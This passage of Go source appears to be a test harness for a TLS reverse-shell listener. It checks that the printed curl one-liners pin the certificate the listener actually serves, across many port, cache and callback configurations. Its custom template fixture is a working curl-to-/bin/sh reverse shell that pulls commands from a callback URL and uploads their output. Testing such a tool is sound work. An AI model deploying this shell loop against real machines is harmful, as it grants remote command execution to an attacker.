		case strict && ups[p], !strict && p != pr.bound && ups[p]:
			j.r.Count("oneliner_port_is_users_port", 1)
			if on443 {
				j.r.Count("oneliners_with_user_port_on_443_listener", 1)
				if p != "443" {
					j.r.Count("oneliners_with_user_port_other_than_443_on_443_listener", 1)
				}
			}
		case strict && j.over("oneliner-user-port-not-kept"):
		case strict:
			var want []string
			for u := range ups {
				want = append(want, u)
			}
			sort.Strings(want)
			j.r.Violate(j.eng, j.idx, "oneliner-user-port-not-kept", fmt.Sprintf("%s names %s (port %s) but the user gave that host with port %s; the listener is bound to port %s: %q", ol.Site, ol.Addr, shown, strings.Join(want, " / "), pr.bound, ol.Text), j.witness(map[string]any{"oneliner": ol, "bound_port": pr.bound, "user_ports_for_host": want}))
		case p == pr.bound:
			j.r.Count("oneliner_port_is_bound_port", 1)
			if on443 {
				j.r.Count("oneliners_naming_bound_port_on_443_listener", 1)
				if !printed {
					j.r.Count("oneliners_with_implied_https_port_on_443_listener", 1)
				}
			}
		default:
			if j.over("oneliner-port-not-bound-port") {
				continue
			}
			j.r.Violate(j.eng, j.idx, "oneliner-port-not-bound-port", fmt.Sprintf("%s names %s (port %s) but the listener is bound to port %s and the user gave no port for that address: %q", ol.Site, ol.Addr, shown, pr.bound, ol.Text), j.witness(map[string]any{"oneliner": ol, "bound_port": pr.bound}))
		}
	}
}

// script judges the fingerprints of one /c body.
func (j *judge) script(body string, custom bool, what string) {
	n := 0
	for _, l := range strings.Split(body, "\n") {
		rest := fpRe.ReplaceAllString(l, "sha256//FP") // base64 may itself hold "/i/" or "/o/"
		for _, m := range fpRe.FindAllStringSubmatch(l, -1) {
			site := siteOther
			switch {
			case custom:
				site = siteCustom
			case strings.Contains(rest, "/i/"):
				site = siteI
			case strings.Contains(rest, "/o/"):
				site = siteO
			default:
				site = "script-other"
			}
			n++
			j.fp(site, m[1], what+": "+l)
		}
	}
	j.r.Count("scripts_checked", 1)
	if n != 2 {
		j.r.Inconclusive(fmt.Sprintf("%s: script carries %d fingerprints, the template has two uses: %q", what, n, body))
	}
}

// ---- configurations -------------------------------------------------------------------

var listenForms = []string{"v4-port0", "v4-noport", "v6-port0", "v6-noport", "any4-port0", "empty-port0", "any6-port0", "fixed4", "fixed6"}
var inprocForms = []string{"v4-port0", "v4-noport", "v6-port0", "v6-noport", "any4-port0", "empty-port0", "any6-port0", "localhost-port0"}
var cbForms = []string{"none", "host", "host:port", "several"}
var fdirForms = []string{"off", "dir", "file"}
var cacheForms = []string{"off", "fresh", "existing", "restarts", "default-path"}

var cbPool = []string{"cb.example", "alt.example:8443", "127.0.0.1", "::1", "203.0.113.9:443", "b.example:65535", "[2001:db8::5]:8443", "x-y.example",
	// addresses with a zone, bare and bracketed, with and without a port
	"fe80::1%eth0", "fe80::a:b%lo", "[fe80::2%eth0]:8443", "2001:db8::7",
	// internationalised names as the user types them, with and without a port
	"例え.テスト:8443", "bücher.example", "пример.рф:444", "faß.example:8443"}

func cbAddrs(form string, rng *rand.Rand) []string {
	switch form {
	case "host":
		return []string{"cb.example"}
	case "host:port":
		return []string{"cb.example:8443"}
	case "several":
		p := rng.Perm(len(cbPool))
		n := 2 + rng.IntN(3)
		var out []string
		for _, i := range p[:n] {
			out = append(out, cbPool[i])
		}
		return out
	}
	return nil
}

// freePort picks a port outside the ephemeral range that is free right now.
func freePort(rng *rand.Rand, host string) string {
	for k := 0; k < 50; k++ {
		p := strconv.Itoa(10000 + rng.IntN(20000))
		l, err := net.Listen("tcp", net.JoinHostPort(host, p))
		if err != nil {
			continue
		}
		l.Close()
		return p
	}
	return ""
}

func listenArg(form string, rng *rand.Rand) string {
	switch form {
	case "v4-port0":
		return "127.0.0.1:0"
	case "v4-noport":
		return "127.0.0.1"
	case "v6-port0":
		return "[::1]:0"
	case "v6-noport":
		return "::1"
	case "any4-port0":
		return "0.0.0.0:0"
	case "empty-port0":
		return ":0"
	case "any6-port0":
		return "[::]:0"
	case "localhost-port0":
		return "localhost:0"
	case "fixed4":
		return "127.0.0.1:" + freePort(rng, "127.0.0.1")
	case "fixed6":
		return "[::1]:" + freePort(rng, "::1")
	}
	return "127.0.0.1:0"
}

// ---- port 443 ---------------------------------------------------------------------------

// form443 binds the default https port.  The port is a machine-wide resource:
// inside one run its use is serialised by mu443 (held from the bind to the
// end of the listener); against other processes there are several loopback
// addresses to fall back on, and a bounded wait.
const form443 = "port-443"

var mu443 sync.Mutex

var cands443 = []string{"127.0.0.1:443", "127.0.0.2:443", "127.0.0.3:443", "[::1]:443"}

// rounds443: how many times all candidates are tried (250 ms apart) before a
// case gives up.  After two cases in a row gave up, the port is taken to be
// held for good and the following cases ask once only (guarded by mu443).
func rounds443() int {
	if gaveUp443 >= 2 {
		return 1
	}
	return 20
}

var gaveUp443 int

func got443(r *mon.Run, addr string) {
	gaveUp443 = 0
	r.Count("listeners_on_port_443", 1)
	r.Count("listeners_on_port_443:"+addr, 1)
}

// cand443 is the address to try in attempt try (rotation rot): all candidates
// in turn, round after round.
func cand443(rot, try int) string { return cands443[(rot+try)%len(cands443)] }

// busy443: the bind failed for a reason that is not the program's doing
// (another process has the address, the address family is not available).
func busy443(err error) bool {
	e := err.Error()
	return strings.Contains(e, "address already in use") || strings.Contains(e, "cannot assign requested address") || strings.Contains(e, "address family not supported")
}

func denied443(err error) bool {
	return strings.Contains(err.Error(), "permission denied")
}

// unavailable443 records that no listener could be bound to port 443: counted
// and noted, never a violation.
func unavailable443(r *mon.Run, who string, err error) {
	gaveUp443++
	r.Count("port_443_unavailable", 1)
	r.Inconclusive(fmt.Sprintf("%s: port 443 could not be bound on any of %v (%v): case skipped", who, cands443, err))
}

// the callback addresses of the port-443 cases: explicit ports 8888, 8443, 444
// (and 443 itself), and addresses without a port.
var cb443Pool = [][]string{
	{"kittens.com:8888", "moose.com"},
	{"cb.example:8443"},
	{"r.example:444", "10.9.8.7:8888", "plain.example"},
	{"[2001:db8::5]:8443", "x-y.example"},
	{"cb.example"},
	nil,
	{"cb.example:443", "alt.example:8888"},
	{"kittens.com:8888"},
	// bare IPv6 literals without a port (they must come out bracketed, with or without ":443")
	{"2001:db8::7", "cb.example:8443"},
	{"::1", "2001:db8::9", "[2001:db8::a]:444"},
	// internationalised names (non-ASCII last label too), with and without a port
	{"例え.テスト:8443", "bücher.example"},
	{"пример.рф:444", "例え.テスト"},
}

// fixtures shared by all cases.
type fixtures struct {
	dir    string // files directory
	file   string // single file
	custom string // custom template
}

const customTemplate = `#!/bin/sh
# custom callback for {{.ID}}
PIN='sha256//{{.PubkeyFP}}'
curl -Nsk --pinnedpubkey "sha256//{{.PubkeyFP}}" https://{{.URL}}/i/{{.ID}} </dev/null 2>&0 |
/bin/sh 2>&1 |
curl -Nsk --pinnedpubkey "$PIN" https://{{.URL}}/o/{{.ID}} -T- >/dev/null 2>&1
`

func makeFixtures(work string) fixtures {
	f := fixtures{dir: filepath.Join(work, "fx", "files"), file: filepath.Join(work, "fx", "one.txt"), custom: filepath.Join(work, "fx", "cb.tmpl")}
	os.MkdirAll(f.dir, 0o755)
	os.WriteFile(filepath.Join(f.dir, "a.txt"), []byte("file a\n"), 0o644)
	os.WriteFile(f.file, []byte("single file\n"), 0o644)
	os.WriteFile(f.custom, []byte(customTemplate), 0o644)
	return f
}

func (f fixtures) fdir(form string) string {
	switch form {
	case "dir":
		return f.dir
	case "file":
		return f.file
	}
	return ""
}

// ---- the listener as the network sees it ----------------------------------------------

// dialTargets: where a local client reaches a listener whose address line reads addr.
func dialTargets(addr, port string) (hosts []string, covers func(netip.Addr) bool, err error) {
	h, _, err := net.SplitHostPort(addr)
	if err != nil {
		return nil, nil, err
	}
	ip, err := netip.ParseAddr(h)
	if err != nil {
		return nil, nil, err
	}
	switch {
	case ip.IsUnspecified() && ip.Is4():
		return []string{"127.0.0.1"}, func(a netip.Addr) bool { return a.Unmap().Is4() }, nil
	case ip.IsUnspecified():
		return []string{"127.0.0.1", "::1"}, func(a netip.Addr) bool { return true }, nil
	}
	return []string{ip.String()}, func(a netip.Addr) bool { return a == ip }, nil
}

// handshake records the pin of the leaf presented to one client.
func (j *judge) handshake(addr, sni string) (string, error) {
	c, err := hk.Dial(addr, sni)
	if err != nil {
		return "", err
	}
	defer c.Close()
	if len(c.Chain) == 0 {
		return "", fmt.Errorf("no certificate presented")
	}
	p := hk.Pin(c.Chain[0])
	if j.leaf == nil {
		j.leaf = c.Chain[0]
	}
	j.r.Count("handshakes", 1)
	if len(c.Chain) > 1 {
		j.r.Count("handshakes_presenting_issuer_certificates", 1)
	}
	for _, q := range j.served {
		if q == p {
			return p, nil
		}
	}
	j.served = append(j.served, p)
	return p, nil
}

// listenPorts returns the ports of the listening TCP sockets of a process
// (inode match between /proc/<pid>/fd and /proc/<pid>/net/tcp{,6}).
func listenPorts(pid int) ([]string, error) {
	fds, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	if err != nil {
		return nil, err
	}
	inodes := map[string]bool{}
	for _, fd := range fds {
		t, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, fd.Name()))
		if err == nil && strings.HasPrefix(t, "socket:[") {
			inodes[strings.TrimSuffix(strings.TrimPrefix(t, "socket:["), "]")] = true
		}
	}
	var ports []string
	for _, f := range []string{"tcp", "tcp6"} {
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/net/%s", pid, f))
		if err != nil {
			continue
		}
		for _, l := range strings.Split(string(b), "\n")[1:] {
			fs := strings.Fields(l)
			if len(fs) < 10 || fs[3] != "0A" || !inodes[fs[9]] {
				continue
			}
			i := strings.LastIndexByte(fs[1], ':')
			p, err := strconv.ParseUint(fs[1][i+1:], 16, 16)
			if err != nil {
				continue
			}
			ports = append(ports, strconv.Itoa(int(p)))
		}
	}
	return ports, nil
}

// ---- real curl --------------------------------------------------------------------------

type curlResult struct {
	Args     []string `json:"args"`
	Exit     int      `json:"exit"`
	HTTPCode string   `json:"http_code"`
	Stderr   string   `json:"stderr,omitempty"`
	TimedOut bool     `json:"timed_out,omitempty"`
}

// curlFor runs the printed command with real curl; pin "" = as printed.
func curlFor(work string, ol oneLiner, pin string, connectTo string) curlResult {
	return curlForX(work, ol, pin, connectTo, nil)
}

// curlForX is curlFor with more options put before the printed ones (a curl
// restricted in what it offers: caps.go).
func curlForX(work string, ol oneLiner, pin string, connectTo string, extra []string) curlResult {
	args := append(append([]string(nil), extra...), strings.Fields(ol.Text)[1:]...)
	if pin != "" {
		for i, a := range args {
			if strings.HasPrefix(a, "sha256//") {
				args[i] = "sha256//" + pin
			}
		}
	}
	args = append(args, "-S", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "25", "--connect-timeout", "15")
	if connectTo != "" {
		args = append(args, "--connect-to", connectTo)
	}
	res := mon.Proc{Path: "/usr/bin/curl", Args: args, Env: []string{"HOME=" + work, "PATH=/usr/bin:/bin", "LC_ALL=C"}, Dir: work, Timeout: 40 * time.Second}.Run()
	return curlResult{Args: args, Exit: res.Status, HTTPCode: string(res.Stdout), Stderr: strings.TrimSpace(string(res.Stderr)), TimedOut: res.TimedOut}
}

func isASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] >= 0x80 {
			return false
		}
	}
	return true
}

func bracket(h string) string {
	if strings.Contains(h, ":") && !strings.HasPrefix(h, "[") {
		return "[" + h + "]"
	}
	return h
}

// tlsLevel: curl exit codes that mean the TLS session (not the network path) failed.
func tlsLevel(code int) bool {
	switch code {
	case 35, 51, 53, 54, 58, 59, 60, 64, 66, 77, 80, 82, 83, 90, 91:
		return true
	}
	return false
}

// curlChecks runs, for every printed one-liner, real curl with the advertised
// pin (must connect) and with a one-bit-altered pin (must exit 90).
func (j *judge) curlChecks(work string, ols []oneLiner, mainHost, bound string, covers func(netip.Addr) bool, rng *rand.Rand) []map[string]any {
	var log []map[string]any
	seen := map[string]bool{}
	nRun := 0
	for _, ol := range ols {
		if seen[ol.Text] {
			continue
		}
		seen[ol.Text] = true
		if !isASCII(ol.Addr) {
			// an internationalised name: whether curl can take it depends on how curl was built;
			// the printed text is judged (fingerprint, port), not run
			j.r.Count("oneliners_with_non_ascii_host_not_run_with_curl", 1)
			continue
		}
		if strings.Contains(ol.Addr, "%") {
			// an address with a zone: curl wants the '%' of a zone escaped in a URL and cannot be
			// redirected for such a host; the printed text is judged (fingerprint, port), not run
			j.r.Count("oneliners_with_zoned_address_not_run_with_curl", 1)
			continue
		}
		// direct when the printed address is an address of this listener; else the same
		// command with its connection redirected to the listener (same pin check).
		connectTo := ""
		h, p, err := net.SplitHostPort(ol.Addr)
		if err != nil {
			h, p = ol.Addr, "443"
		}
		direct := false
		if ip, err := netip.ParseAddr(strings.Trim(h, "[]")); err == nil && p == bound && covers(ip) {
			c, err := net.DialTimeout("tcp", net.JoinHostPort(ip.String(), p), 2*time.Second)
			if err == nil {
				c.Close()
				direct = true
				// the key served on that very address
				j.handshake(net.JoinHostPort(ip.String(), p), "")
			}
		}
		if !direct {
			connectTo = fmt.Sprintf("%s:%s:%s:%s", bracket(h), p, bracket(mainHost), bound)
			j.r.Count("curl_via_connect_to", 1)
		} else {
			j.r.Count("curl_direct", 1)
		}
		entry := map[string]any{"oneliner": ol.Text, "direct": direct}
		// advertised pin, exactly as printed
		var res curlResult
		for try := 0; try < 3; try++ {
			res = curlFor(work, ol, "", connectTo)
			if res.Exit == 0 || res.Exit == 90 {
				break
			}
			time.Sleep(300 * time.Millisecond)
		}
		entry["advertised_exit"] = res.Exit
		entry["advertised_http"] = res.HTTPCode
		advOK, altOK := res.Exit == 0, false
		switch {
		case res.Exit == 0:
			j.r.Count("curl_pinned_ok", 1)
			if j.chain != nil {
				j.r.Count("curl_pinned_ok_on_chain_cache", 1)
			}
			if ol.Path == "/c" && res.HTTPCode != "200" {
				j.r.Inconclusive(fmt.Sprintf("curl on %q connected but got HTTP %s", ol.Text, res.HTTPCode))
			}
		case tlsLevel(res.Exit):
			j.r.Violate(j.eng, j.idx, "curl-advertised-pin-rejected", fmt.Sprintf("real curl run as printed (%s) exits %d: %s", ol.Text, res.Exit, res.Stderr), j.witness(map[string]any{"oneliner": ol, "curl": res}))
		default:
			j.r.Inconclusive(fmt.Sprintf("curl on %q could not reach the listener (exit %d, %s)", ol.Text, res.Exit, res.Stderr))
		}
		// altered pin
		if alt, ok := alterPin(ol.FP, rng); ok {
			for try := 0; try < 3; try++ {
				res = curlFor(work, ol, alt, connectTo)
				if res.Exit == 0 || res.Exit == 90 {
					break
				}
				time.Sleep(300 * time.Millisecond)
			}
			entry["altered_pin"] = alt
			entry["altered_exit"] = res.Exit
			switch res.Exit {
			case 90:
				altOK = true
				j.r.Count("curl_altered_rejected", 1)
				if j.chain != nil {
					j.r.Count("curl_altered_rejected_on_chain_cache", 1)
				}
			case 0:
				j.r.Violate(j.eng, j.idx, "curl-altered-pin-accepted", fmt.Sprintf("real curl with the pin altered in one character (sha256//%s instead of sha256//%s) connects to %s", alt, ol.FP, ol.Addr), j.witness(map[string]any{"oneliner": ol, "curl": res}))
			default:
				j.r.Inconclusive(fmt.Sprintf("curl with altered pin on %q neither connected nor reported a pin mismatch (exit %d, %s)", ol.Text, res.Exit, res.Stderr))
			}
		}
		// the same command from clients restricted in what they offer
		if advOK && altOK {
			if cl := j.curlCaps(work, ol, connectTo, nRun, rng); cl != nil {
				entry["restricted_curl"] = cl
			}
			nRun++
		}
		log = append(log, entry)
	}
	return log
}

// ---- /c ------------------------------------------------------------------------------------

// sniVariants: the script variants "plain request to the listener" and
// "HTTP/1.0 request on a connection with SNI".
var sniVariants = []int{0, 4}

// scripts fetches /c with several Host/c2 variants and judges every body.
func (j *judge) scripts(target, boundHostPort string, custom bool, rng *rand.Rand, n int) {
	j.scriptsPick(target, boundHostPort, custom, rng, n, nil)
}

// scriptsPick is scripts with the variants named (nil = draw n of them).
func (j *judge) scriptsPick(target, boundHostPort string, custom bool, rng *rand.Rand, n int, pick []int) {
	type variant struct {
		name, host, path string
		hdr              []string
	}
	vs := []variant{
		{"host=listener", boundHostPort, "/c", nil},
		{"host=cb.example:8443", "cb.example:8443", "/c", nil},
		{"c2-query", boundHostPort, "/c?c2=q.example:9443", nil},
		{"c2-header", "h.example", "/c", []string{"c2: hdr.example:7443"}},
		{"http/1.0-sni", "", "/c", nil},
	}
	if pick == nil {
		pick = []int{0}
		for _, i := range rng.Perm(len(vs) - 1)[:n-1] {
			pick = append(pick, i+1)
		}
	}
	for _, i := range pick {
		v := vs[i]
		var res *hk.Response
		var err error
		if v.host == "" {
			res, _, err = hk.RoundTrip(target, "sni.example", []byte("GET /c HTTP/1.0\r\n\r\n"), hk.Bound)
		} else {
			res, err = hk.Get(target, "", v.host, v.path, v.hdr...)
		}
		if err != nil || res == nil {
			j.r.Inconclusive(fmt.Sprintf("GET /c (%s) failed: %v", v.name, err))
			continue
		}
		if res.Status != 200 {
			j.r.Inconclusive(fmt.Sprintf("GET /c (%s) answered %d", v.name, res.Status))
			continue
		}
		j.r.Count("script_variant:"+v.name, 1)
		j.script(string(res.Body), custom, "script "+v.name)
	}
}

// ---- the cache changes under a running listener ----------------------------------------

// afterCacheChange replaces the certificate cache file under the running
// listener by a different, valid cache (what another program sharing the cache
// does when it makes its own certificate) and then holds everything the
// process has advertised so far, and what it embeds in scripts now, against
// the key it presents now - to clients without and with SNI.  The listener may
// keep its key or pick up the new one; what it advertises must be what it
// serves.
func (j *judge) afterCacheChange(cache string, hosts []string, bound, target string, advertised []fpOcc, custom bool, rng *rand.Rand, repl *chainSpec, more func(j2 *judge)) (newPin string, newChain *chainCache, ok bool) {
	var err error
	if repl != nil {
		// the other program installs a chain from a CA
		if newChain, err = writeChainCache(j.r, cache, *repl); err == nil {
			newPin = newChain.Pins[0]
		}
	} else {
		newPin, err = writeCache(cache, "valid")
	}
	if err != nil {
		j.r.Inconclusive(fmt.Sprintf("%s %d: cannot replace the cache %s: %v", j.eng, j.idx, cache, err))
		return "", nil, false
	}
	j2 := &judge{r: j.r, eng: j.eng, idx: j.idx, class: classChanged, chain: j.chain, ctx: map[string]any{}}
	for k, v := range j.ctx {
		j2.ctx[k] = v
	}
	j2.ctx["phase"] = "the cache file was replaced by a different valid certificate and key while the listener was running"
	j2.ctx["cache_file"] = cache
	j2.ctx["cache_now_holds_pin"] = newPin
	if newChain != nil {
		j2.ctx["phase"] = "the cache file was replaced by a different valid certificate chain (leaf first, then its issuers) and the leaf's key while the listener was running"
		j2.ctx["cache_now_holds"] = newChain.Spec
		j2.ctx["cache_now_holds_cert_section_pins"] = newChain.Pins
	}
	j2.ctx["served_before_the_change"] = append([]string(nil), j.served...)
	plain, withSNI := 0, 0
	for _, h := range hosts {
		if _, err := j2.handshake(net.JoinHostPort(h, bound), ""); err == nil {
			plain++
		}
	}
	for _, sni := range []string{"some.host.example", "cb.example"} {
		if _, err := j2.handshake(target, sni); err == nil {
			withSNI++
		} else {
			j.r.Logf("%s %d: handshake with SNI %s after the cache change: %v", j.eng, j.idx, sni, err)
		}
	}
	if plain == 0 || withSNI == 0 {
		j.r.Inconclusive(fmt.Sprintf("%s %d: after the cache change %d handshakes without and %d with SNI succeeded", j.eng, j.idx, plain, withSNI))
		return newPin, newChain, false
	}
	j.r.Count("cache_changed_under_listener_cases", 1)
	if newChain != nil {
		j.r.Count("cache_replaced_by_chain_cache_under_listener", 1)
	}
	j.r.Count("handshakes_without_sni_after_change", int64(plain))
	j.r.Count("handshakes_with_sni_after_change", int64(withSNI))
	for _, f := range advertised {
		j2.fp(f.Site, f.FP, strings.TrimSpace(f.Line))
	}
	j2.scriptsPick(target, target, custom, rng, 2, sniVariants)
	if more != nil {
		more(j2)
	}
	switch {
	case len(j2.served) == 1 && j2.served[0] == newPin:
		j.r.Count("after_change_listener_serves_new_key", 1)
	case len(j2.served) == 1 && len(j.served) > 0 && j2.served[0] == j.served[0]:
		j.r.Count("after_change_listener_keeps_its_key", 1)
	default:
		j.r.Count("after_change_listener_serves_several_keys", 1)
	}
	j.bad += j2.bad
	j.r.Sample(j.eng+":"+classChanged, map[string]any{"index": j.idx, "context": j2.ctx, "served_after_the_change": j2.served, "advertised": len(advertised)})
	return newPin, newChain, true
}

// ---- engine "binary" ---------------------------------------------------------------------

type binCase struct {
	Cache   string   `json:"cache"`
	Runs    int      `json:"runs"`
	Forms   []string `json:"listen_forms"` // per run
	CBForm  string   `json:"callback_form"`
	CBs     []string `json:"callback_addresses"`
	FDir    string   `json:"serve_files_from"`
	IPv6    bool     `json:"ipv6_one_liners"`
	Tmpl    string   `json:"template"`
	NoTS    bool     `json:"no_timestamps"`
	Shells  int      `json:"shell_cycles"`
	Scripts int      `json:"script_fetches"`
	Real    bool     `json:"real_shell"` // also run a printed one-liner verbatim under /bin/sh
	Rot     int      `json:"port_443_rotation,omitempty"`
	// cache forms chain-file / chain-default-path: the cache is made by the harness before the first run
	Chain *chainSpec `json:"cache_made_by_harness,omitempty"`
	Repl  *chainSpec `json:"cache_replaced_under_last_run_by,omitempty"`
}

// genBinChainCase: the real binary, 2-3 runs on a harness-made chain cache (at
// an explicit path or at the default path under the private HOME); under the
// last run the cache is replaced by another chain.
func genBinChainCase(r *mon.Run, i int) binCase {
	rng := r.Rng("binchaincfg", i)
	c := binCase{
		Cache:  []string{cacheChainFile, cacheChainFile, cacheChainDefault}[i%3],
		CBForm: cbForms[rng.IntN(len(cbForms))],
		FDir:   fdirForms[rng.IntN(len(fdirForms))],
		IPv6:   rng.IntN(2) == 0,
		Tmpl:   []string{"default", "default", "custom"}[rng.IntN(3)],
		NoTS:   rng.IntN(4) == 0,
		Shells: 1, Scripts: 2, Runs: 2 + i%2,
		Real: i%2 == 1,
	}
	c.CBs = cbAddrs(c.CBForm, rng)
	for k := 0; k < c.Runs; k++ {
		c.Forms = append(c.Forms, listenForms[(i+3*k)%len(listenForms)])
	}
	// binary cases take the specs the in-process cases of the same index do not
	ch, rp := genChainSpec(i+1, rng), genChainSpec(i+2, rng)
	c.Chain, c.Repl = &ch, &rp
	return c
}

// genBin443Case: the real binary on the default https port.
func genBin443Case(r *mon.Run, i int) binCase {
	rng := r.Rng("bin443cfg", i)
	return binCase{
		Cache: []string{"fresh", "off", "default-path"}[i%3], Runs: 1, Forms: []string{form443},
		CBForm: "port-443-pool", CBs: cb443Pool[(i*2)%len(cb443Pool)+(i*2/len(cb443Pool))%2],
		FDir: []string{"dir", "file"}[i%2], IPv6: rng.IntN(2) == 0, Tmpl: []string{"default", "custom"}[(i/2)%2],
		Shells: 1, Scripts: 2, Real: i%2 == 0, Rot: i % len(cands443),
	}
}

func genBinCase(r *mon.Run, i int, offF, offC int) binCase {
	rng := r.Rng("cfg", i)
	c := binCase{
		Cache:  cacheForms[(i/len(listenForms)+i+offC)%len(cacheForms)],
		CBForm: cbForms[rng.IntN(len(cbForms))],
		FDir:   fdirForms[rng.IntN(len(fdirForms))],
		IPv6:   rng.IntN(2) == 0,
		Tmpl:   []string{"default", "default", "custom"}[rng.IntN(3)],
		NoTS:   rng.IntN(4) == 0,
		Shells: 1,
	}
	c.CBs = cbAddrs(c.CBForm, rng)
	c.Runs = 1
	switch c.Cache {
	case "existing":
		c.Runs = 2
	case "restarts", "default-path":
		c.Runs = 2 + rng.IntN(3)
	}
	c.Forms = []string{listenForms[(i+offF)%len(listenForms)]}
	for k := 1; k < c.Runs; k++ {
		c.Forms = append(c.Forms, listenForms[rng.IntN(len(listenForms))])
	}
	if rng.IntN(4) == 0 {
		c.Shells = 2
	}
	c.Scripts = 2 + rng.IntN(2)
	c.Real = rng.IntN(2) == 0
	return c
}

// binCacheFile: where the binary keeps its certificate cache in this case ("" = nowhere).
func binCacheFile(c binCase, home, cachePath string) string {
	switch c.Cache {
	case "off":
		return ""
	case "default-path", cacheChainDefault:
		return filepath.Join(home, ".cache", sstls.CertCacheDir, sstls.CertCacheFile)
	}
	return cachePath
}

type runOutcome struct {
	ok         bool
	pin        string
	advertised string
}

func binCaseRun(r *mon.Run, eng, bin string, fx fixtures, i int, c binCase) {
	caseDir := filepath.Join(r.Work, fmt.Sprintf("b%d", i))
	if eng != engBin {
		caseDir = filepath.Join(r.Work, fmt.Sprintf("%s-%d", eng, i))
	}
	home := filepath.Join(caseDir, "home")
	os.MkdirAll(home, 0o755)
	cachePath := filepath.Join(caseDir, "cache", "cert.txtar")
	var outs []runOutcome
	var cc *chainCache
	if c.Chain != nil {
		var err error
		if cc, err = writeChainCache(r, binCacheFile(c, home, cachePath), *c.Chain); err != nil {
			r.Inconclusive(fmt.Sprintf("%s %d: cannot prepare the chain cache %v: %v", eng, i, *c.Chain, err))
			return
		}
	}
	for k := 0; k < c.Runs; k++ {
		light := c.Cache == "existing" && k == 0
		o := binOneRun(r, eng, bin, fx, i, k, c, cc, home, cachePath, light, k == c.Runs-1)
		if !o.ok {
			break
		}
		outs = append(outs, o)
		if cc != nil {
			chainStarted(r, eng, cc, o.pin, k > 0)
		}
		r.Eval(1) // every start of the binary is one evaluated case (same granularity as Distinct)
	}
	if len(outs) >= 2 {
		r.Count("restart_sequences", 1)
		for k := 1; k < len(outs); k++ {
			r.Count("restarts_compared", 1)
			if outs[k].pin != outs[0].pin || outs[k].advertised != outs[0].advertised {
				r.Violate(eng, i, "restart-pin-changed-with-cache", fmt.Sprintf("run %d on the same certificate cache serves pin %s and advertises %s; run 0 served %s and advertised %s", k, outs[k].pin, outs[k].advertised, outs[0].pin, outs[0].advertised), map[string]any{"config": c, "cache": cachePath})
			}
		}
	}
}

func binOneRun(r *mon.Run, eng, bin string, fx fixtures, i, k int, c binCase, cc *chainCache, home, cachePath string, light, last bool) (out runOutcome) {
	rng := r.Rng("run", i*16+k)
	if eng != engBin {
		rng = r.Rng(eng+"run", i*16+k)
	}
	form := c.Forms[k]
	var s *crs.Session
	var args []string
	var la string
	var flagOrder []int
	if form == form443 {
		// released after the child is gone (deferred before s.Close)
		mu443.Lock()
		defer mu443.Unlock()
	}
	for try := 0; ; try++ {
		la = listenArg(form, rng)
		if form == form443 {
			la = cand443(c.Rot, try)
		}
		// the command line is a set of flags: what the program prints must not depend on
		// the order they are given in, so every run gets its own order (the callback
		// addresses keep their relative order: that one is meaningful)
		groups := [][]string{{"-listen-address", la}}
		for _, a := range c.CBs {
			groups = append(groups, []string{"-callback-address", a})
		}
		if d := fx.fdir(c.FDir); d != "" {
			groups = append(groups, []string{"-serve-files-from", d})
		}
		if c.IPv6 {
			groups = append(groups, []string{"-ipv6-one-liners"})
		}
		if c.Tmpl == "custom" {
			groups = append(groups, []string{"-callback-template", fx.custom})
		}
		if c.NoTS {
			groups = append(groups, []string{"-no-timestamps"})
		}
		switch c.Cache {
		case "off":
			groups = append(groups, []string{"-tls-certificate-cache", ""})
		case "default-path", cacheChainDefault:
		default:
			groups = append(groups, []string{"-tls-certificate-cache", cachePath})
		}
		if try == 0 {
			ord := r.Rng(eng+"flag-order", i*16+k).Perm(len(groups))
			if (i+k)%2 == 0 { // every other run: the listen address comes last
				for j, v := range ord {
					if v == 0 {
						ord[j], ord[len(ord)-1] = ord[len(ord)-1], 0
					}
				}
			}
			flagOrder = ord
		}
		args = nil
		// callback addresses in their given order at the positions the permutation chose
		nextCB := 1
		laSeen, cbBeforeLA := false, false
		for _, v := range flagOrder {
			g := groups[v]
			if g[0] == "-callback-address" {
				g = groups[nextCB]
				nextCB++
				if !laSeen {
					cbBeforeLA = true
				}
			}
			if g[0] == "-listen-address" {
				laSeen = true
			}
			args = append(args, g...)
		}
		if try == 0 && cbBeforeLA {
			r.Count("runs_with_a_callback_address_before_the_listen_address", 1)
		}
		var err error
		if form == form443 {
			// asked first by the harness itself: a child whose bind fails is only noticed late
			var l net.Listener
			if l, err = net.Listen("tcp", la); err == nil {
				l.Close()
			}
		}
		if err == nil {
			s, err = crs.Start(bin, home, args...)
		}
		if err == nil {
			break
		}
		if form == form443 && (busy443(err) || denied443(err)) {
			if denied443(err) || try+1 >= rounds443()*len(cands443) {
				unavailable443(r, fmt.Sprintf("%s %d run %d", eng, i, k), err)
				return
			}
			r.Count("port_443_address_busy_or_missing", 1)
			if (try+1)%len(cands443) == 0 {
				time.Sleep(250 * time.Millisecond)
			}
			continue
		}
		if strings.Contains(err.Error(), "address already in use") && try < 4 {
			r.Count("fixed_port_taken_retry", 1)
			continue
		}
		if cc != nil && strings.Contains(err.Error(), "Error setting up HTTPS service") && strings.Contains(err.Error(), "certificate") {
			// the program does not take this cache: it need not (counted); only runs that start are judged
			r.Count("chain_cache_rejected_at_start_up", 1)
			r.Count("chain_cache_rejected_at_start_up:"+cc.Spec.String(), 1)
			r.Logf("%s %d run %d: chain cache %v refused: %v", eng, i, k, cc.Spec, err)
			return
		}
		if strings.Contains(err.Error(), "Error setting up HTTPS service") {
			// the program refuses this form: not this property's business
			r.Count("config_rejected_by_program:"+form, 1)
			r.Logf("binary %d run %d: %s refused: %v", i, k, la, err)
			return
		}
		r.Inconclusive(fmt.Sprintf("binary %d run %d: could not start: %v", i, k, err))
		return
	}
	defer s.Close()
	r.Count("binary_runs", 1)
	if form == form443 {
		got443(r, la)
		r.Count("binary_listeners_on_port_443", 1)
	}
	r.Count("config_listen_form:"+form, 1)
	r.Count("config_cache:"+c.Cache, 1)
	r.Count("config_callback:"+c.CBForm, 1)
	r.Count("config_files:"+c.FDir, 1)
	r.Count("config_template:"+c.Tmpl, 1)

	j := &judge{r: r, eng: eng, idx: i, chain: cc, ctx: map[string]any{"config": c, "run": k, "args": args, "listening_on": s.Addr}}
	term := func() string { return s.P.Clean() }
	waitBlock := func(from int) (int, bool) {
		loc, ok := s.Wait(`To get a shell:`, from, crs.Bound)
		if !ok {
			return 0, false
		}
